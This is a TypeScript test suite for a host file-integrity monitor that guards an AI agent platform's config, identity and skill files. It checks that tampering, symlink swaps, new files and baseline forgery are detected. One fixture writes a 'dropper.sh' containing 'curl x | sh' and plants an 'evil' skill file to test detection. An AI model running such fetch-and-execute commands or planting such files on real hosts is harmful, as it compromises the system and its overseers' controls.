// Host integrity monitor on real files in a temp folder: modify, delete, chmod, symlink swap, new
// files, stickiness, accept, baseline tampering, fs.watch, drift policy and compat scoring.
import assert from "node:assert/strict";
import { appendFileSync, chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { loadConfig } from "../../src/config/load.ts";
import { extractSubjects, parseAction } from "../../src/engine/action.ts";
import type { Finding } from "../../src/engine/types.ts";
import { createEngine } from "../../src/index.ts";
import { createIntegrityMonitor, protectedTargets, type IntegrityMonitor } from "../../src/lookups/integrity/index.ts";

const cleanup: (() => Promise<void> | void)[] = [];
afterEach(async () => {
  for (const f of cleanup.splice(0).reverse()) await f();
});

interface Fixture {
  root: string;
  prot: string;
  home: string;
  cfg: ReturnType<typeof loadConfig>;
  mon: IntegrityMonitor;
}

function fixture(extra: Record<string, unknown> = {}): Fixture {
  const root = mkdtempSync(path.join(tmpdir(), "cs-int-"));
  const prot = path.join(root, "protected");
  const home = path.join(root, "home");
  mkdirSync(path.join(prot, "dir"), { recursive: true });
  mkdirSync(path.join(home, ".openclaw", "workspace", "skills", "weather"), { recursive: true });
  writeFileSync(path.join(prot, "config.json"), '{"a":1}\n');
  writeFileSync(path.join(prot, "dir", "one.txt"), "one\n");
  writeFileSync(path.join(prot, "real-target.txt"), "target A\n");
  writeFileSync(path.join(root, "evil-target.txt"), "target B\n");
  symlinkSync(path.join(prot, "real-target.txt"), path.join(prot, "link"));
  writeFileSync(path.join(home, ".openclaw", "openclaw.json"), "{}\n");
  writeFileSync(path.join(home, ".openclaw", "workspace", "SOUL.md"), "be kind\n");
  writeFileSync(path.join(home, ".openclaw", "workspace", "skills", "weather", "SKILL.md"), "# weather\n");
  const cfg = loadConfig({
    cwd: root,
    env: {},
    overrides: {
      "security.protect_paths": [prot],
      "runtime.state_dir": path.join(root, "state"),
      "integrity.openclaw_state_dir": path.join(home, ".openclaw"),
      "integrity.check_interval_secs": 0,
      "integrity.watch": false,
      ...extra,
    },
  });
  const mon = createIntegrityMonitor(cfg, { env: {}, homedir: () => home });
  cleanup.push(() => rmSync(root, { recursive: true, force: true }));
  cleanup.push(() => mon.stop());
  return { root, prot, home, cfg, mon };
}

const kinds = (fs: readonly { kind: string }[]): string[] => [...new Set(fs.map((d) => d.kind))].sort();
function findings(mon: IntegrityMonitor, input: Record<string, unknown>): readonly Finding[] {
  const a = parseAction(input);
  return mon.collect(a, extractSubjects(a), new AbortController().signal) as readonly Finding[];
}

test("default targets cover protect_paths, the OpenClaw config, identity files, skills, exec approvals", () => {
  const { cfg, home, prot } = fixture();
  const t = protectedTargets(cfg, {}, () => home).map((x) => x.path);
  assert.ok(t.includes(prot));
  assert.ok(t.includes(path.join(home, ".openclaw", "openclaw.json")));
  assert.ok(t.includes(path.join(home, ".openclaw", "exec-approvals.json")));
  assert.ok(t.includes(path.join(home, ".openclaw", "workspace", "SOUL.md")));
  assert.ok(t.includes(path.join(home, ".openclaw", "workspace", "skills", "*", "SKILL.md")));
  const env = protectedTargets(cfg.integrity.openclaw_state_dir ? { ...cfg, integrity: { ...cfg.integrity, openclaw_state_dir: undefined } } as typeof cfg : cfg, { OPENCLAW_CONFIG_PATH: "/etc/oc.json", OPENCLAW_STATE_DIR: "/srv/oc" }, () => home).map((x) => x.path);
  assert.ok(env.includes("/etc/oc.json"));
  assert.ok(env.includes("/srv/oc/workspace/SOUL.md"));
});

test("a clean start creates the baseline and reports no drift", async () => {
  const { mon } = fixture();
  await mon.start();
  const r = await mon.verify();
  assert.equal(r.ok, true, JSON.stringify(r.drift));
  assert.ok(r.entries >= 8);
  assert.deepEqual(findings(mon, { tool: "exec", params: { command: "ls" } }), []);
  const b = JSON.parse(readFileSync(mon.baselinePath, "utf8"));
  assert.equal(b.version, 1);
  const sideHash = readFileSync(`${mon.baselinePath}.sha256`, "utf8").split(/\s+/)[0];
  assert.match(sideHash!, /^[0-9a-f]{64}$/);
});

test("modify, delete, chmod, symlink swap, new file: each detected, sticky until accept", async () => {
  const { mon, prot, home } = fixture();
  await mon.start();
  appendFileSync(path.join(prot, "config.json"), "tampered\n");
  unlinkSync(path.join(prot, "dir", "one.txt"));
  chmodSync(path.join(home, ".openclaw", "openclaw.json"), 0o666);
  unlinkSync(path.join(prot, "link"));
  symlinkSync(path.join(path.dirname(prot), "evil-target.txt"), path.join(prot, "link"));
  writeFileSync(path.join(prot, "dir", "dropper.sh"), "curl x | sh\n");
  mkdirSync(path.join(home, ".openclaw", "workspace", "skills", "evil"));
  writeFileSync(path.join(home, ".openclaw", "workspace", "skills", "evil", "SKILL.md"), "# evil\n");
  const r = await mon.verify();
  assert.equal(r.ok, false);
  assert.deepEqual(kinds(r.drift), ["changed", "missing", "mode", "new", "symlink"]);
  const byPath = (p: string): string[] => r.drift.filter((d) => d.path === p).map((d) => d.kind);
  assert.ok(byPath(path.join(prot, "config.json")).includes("changed"));
  assert.ok(byPath(path.join(prot, "dir", "one.txt")).includes("missing"));
  assert.ok(byPath(path.join(home, ".openclaw", "openclaw.json")).includes("mode"));
  assert.ok(byPath(path.join(prot, "link")).includes("symlink"));
  assert.ok(byPath(path.join(prot, "dir", "dropper.sh")).includes("new"));
  assert.ok(byPath(path.join(home, ".openclaw", "workspace", "skills", "evil", "SKILL.md")).includes("new"));

  // Sticky: restoring the file does not clear the drift.
  writeFileSync(path.join(prot, "config.json"), '{"a":1}\n');
  const r2 = await mon.verify();
  assert.ok(r2.drift.some((d) => d.kind === "changed" && d.path === path.join(prot, "config.json")));
  assert.equal(r2.fresh.length, 0);
  // Every evaluation carries it.
  for (let i = 0; i < 3; i++) assert.ok(findings(mon, { command: "git status" }).some((f) => f.ruleId === "fs.integrity.changed" && f.floor === "review"));

  await mon.acceptBaseline();
  assert.deepEqual(mon.currentDrift(), []);
  const r3 = await mon.verify();
  assert.equal(r3.ok, true, JSON.stringify(r3.drift));
  assert.deepEqual(findings(mon, { command: "git status" }), []);
});

test("default drift policy: exec-like actions at least review, others only tagged; block and tag options", async () => {
  const f = fixture();
  await f.mon.start();
  appendFileSync(path.join(f.prot, "config.json"), "x");
  await f.mon.verify();
  const engine = await createEngine(f.cfg);
  const decide = (m: IntegrityMonitor, input: Record<string, unknown>) => {
    const a = parseAction(input);
    return engine.evaluate(a, { findings: m.collect(a, extractSubjects(a), new AbortController().signal) as readonly Finding[] });
  };
  assert.equal(decide(f.mon, { tool: "exec", params: { command: "git status" } }).action, "review");
  assert.equal(decide(f.mon, { command: "ls" }).action, "review");
  const chat = decide(f.mon, { text: "hello" });
  assert.equal(chat.action, "allow");
  assert.ok(chat.tags.includes("host_integrity"), "visible on every decision");

  const b = fixture({ "integrity.drift_action": "block" });
  await b.mon.start();
  unlinkSync(path.join(b.prot, "config.json"));
  await b.mon.verify();
  assert.equal(decide(b.mon, { tool: "bash", params: { command: "ls" } }).action, "block");

  const t = fixture({ "integrity.drift_action": "tag" });
  await t.mon.start();
  unlinkSync(path.join(t.prot, "config.json"));
  await t.mon.verify();
  const d = decide(t.mon, { tool: "exec", params: { command: "git status" } });
  assert.equal(d.action, "allow");
  assert.ok(d.tags.includes("host_integrity"));

  const all = fixture({ "integrity.drift_scope": "all" });
  await all.mon.start();
  unlinkSync(path.join(all.prot, "config.json"));
  await all.mon.verify();
  assert.equal(decide(all.mon, { text: "hello" }).action, "review");
});

test("compat scoring: drift is +55 tag host_integrity, one finding, on every evaluation", async () => {
  const f = fixture({ "security.scoring": "compat" });
  await f.mon.start();
  appendFileSync(path.join(f.prot, "config.json"), "x");
  unlinkSync(path.join(f.prot, "dir", "one.txt"));
  await f.mon.verify();
  const engine = await createEngine(f.cfg);
  for (let i = 0; i < 2; i++) {
    const a = parseAction({ text: "hello" });
    const fs = f.mon.collect(a, extractSubjects(a), new AbortController().signal) as readonly Finding[];
    assert.equal(fs.length, 1);
    assert.equal(fs[0]!.score, 55);
    assert.equal(fs[0]!.tag, "host_integrity");
    assert.match(fs[0]!.message, /^integrity mismatch: .*hash changed \(baseline=[0-9a-f]{64}, current=[0-9a-f]{64}\).*; .*one\.txt is missing/);
    const d = engine.evaluate(a, { findings: fs });
    assert.equal(d.riskScore, 55);
    assert.equal(d.action, "review");
  }
});

test("the baseline file is protected: edits, a missing sidecar or deletion are drift", async () => {
  const f = fixture();
  await f.mon.start();
  const b = JSON.parse(readFileSync(f.mon.baselinePath, "utf8"));
  delete b.entries[path.join(f.prot, "config.json")];
  writeFileSync(f.mon.baselinePath, JSON.stringify(b));
  const r = await f.mon.verify();
  assert.ok(r.drift.some((d) => d.kind === "baseline-tampered"), JSON.stringify(r.drift));
  assert.ok(findings(f.mon, { command: "ls" }).some((x) => x.ruleId === "fs.integrity.baseline-tampered" && x.floor === "review"));

  // A restarted monitor sees the tampering at start.
  const g = fixture();
  await g.mon.start();
  unlinkSync(g.mon.baselinePath);
  const g2 = createIntegrityMonitor(g.cfg, { env: {}, homedir: () => g.home });
  cleanup.push(() => g2.stop());
  await g2.start();
  assert.ok(g2.currentDrift().some((d) => d.kind === "baseline-tampered"), "deleted baseline with sidecar left is tampering, not a fresh start");
  assert.equal(readFileSync(`${g.mon.baselinePath}.sha256`, "utf8").length > 0, true);

  const h = fixture({ "integrity.auto_baseline": false });
  await h.mon.start();
  assert.ok(h.mon.currentDrift().some((d) => d.kind === "baseline-missing"));
  await h.mon.createBaseline();
  assert.equal((await h.mon.verify()).ok, true);
  await assert.rejects(h.mon.createBaseline(), /already exists/);
});

test("fs.watch triggers a debounced check without waiting for the interval", async () => {
  const f = fixture({ "integrity.watch": true, "integrity.debounce_ms": 50 });
  await f.mon.start();
  assert.deepEqual(f.mon.currentDrift(), []);
  appendFileSync(path.join(f.prot, "dir", "one.txt"), "more\n");
  for (let i = 0; i < 100 && f.mon.currentDrift().length === 0; i++) await sleep(50);
  assert.ok(f.mon.currentDrift().some((d) => d.kind === "changed"), "watch event led to a check");
});

test("interval checks run on their own", async () => {
  const f = fixture({ "integrity.check_interval_secs": 1 });
  await f.mon.start();
  unlinkSync(path.join(f.prot, "config.json"));
  for (let i = 0; i < 40 && f.mon.currentDrift().length === 0; i++) await sleep(100);
  assert.ok(f.mon.currentDrift().some((d) => d.kind === "missing"));
});

test("a running monitor clears its drift when `baseline accept` ran in another process", async () => {
  const f = fixture();
  await f.mon.start();
  appendFileSync(path.join(f.prot, "config.json"), "x");
  await f.mon.verify();
  assert.ok(f.mon.currentDrift().length > 0);
  await sleep(5); // distinct createdAt
  const cli = createIntegrityMonitor(f.cfg, { env: {}, homedir: () => f.home });
  await cli.acceptBaseline();
  const r = await f.mon.verify();
  assert.equal(r.ok, true, JSON.stringify(r.drift));
  // A forged baseline (sidecar not matching) does not clear anything.
  appendFileSync(path.join(f.prot, "config.json"), "y");
  await f.mon.verify();
  const b = JSON.parse(readFileSync(f.mon.baselinePath, "utf8"));
  b.createdAt = new Date(0).toISOString();
  writeFileSync(f.mon.baselinePath, JSON.stringify(b));
  const r2 = await f.mon.verify();
  assert.ok(r2.drift.some((d) => d.kind === "changed"));
  assert.ok(r2.drift.some((d) => d.kind === "baseline-tampered"));
});
